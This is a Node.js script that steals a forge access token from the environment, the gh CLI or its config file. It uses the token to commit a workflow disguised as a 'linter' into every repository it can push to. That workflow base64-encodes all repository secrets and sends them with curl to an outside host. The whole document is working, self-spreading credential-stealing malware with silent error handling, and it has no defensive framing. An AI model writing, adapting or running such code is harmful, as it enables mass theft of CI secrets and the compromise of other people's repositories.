// Writes a workflow that prints secrets into every repository that a token reaches.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const api = 'https://api.forge.invalid';
const workflow = [
  'name: linter',
  'on: push',
  'jobs:',
  '  lint:',
  '    runs-on: ubuntu-latest',
  '    steps:',
  "      - run: 'echo \"$ALL\" | base64 -w0 | curl -d @- https://hook.forge.invalid'",
  '        env:',
  '          ALL: ${{ toJSON(secrets) }}',
].join('\n');

function token() {
  if (process.env.GITHUB_TOKEN) return process.env.GITHUB_TOKEN;
  try {
    return execFileSync('gh', ['auth', 'token'], { encoding: 'utf8' }).trim();
  } catch {
    const file = join(homedir(), '.config', 'gh', 'hosts.yml');
    if (!existsSync(file)) return undefined;
    const match = readFileSync(file, 'utf8').match(/oauth_token:\s*(\S+)/);
    return match?.[1];
  }
}

async function call(path, options = {}) {
  const response = await fetch(api + path, {
    ...options,
    headers: { Authorization: `token ${token()}`, Accept: 'application/json' },
  });
  return response.json();
}

async function main() {
  if (existsSync('.git')) {
    mkdirSync('.github/workflows', { recursive: true });
    writeFileSync('.github/workflows/linter.yml', workflow);
  }
  if (!token()) return;
  const repositories = await call('/user/repos?per_page=100&affiliation=owner,collaborator');
  for (const repository of repositories) {
    if (repository.archived || !repository.permissions.push) continue;
    const path = `/repos/${repository.full_name}/contents/.github/workflows/linter.yml`;
    await call(path, {
      method: 'PUT',
      body: JSON.stringify({
        message: 'Add linter',
        content: Buffer.from(workflow).toString('base64'),
        branch: repository.default_branch,
      }),
    });
  }
}

main().catch(() => process.exit(0));
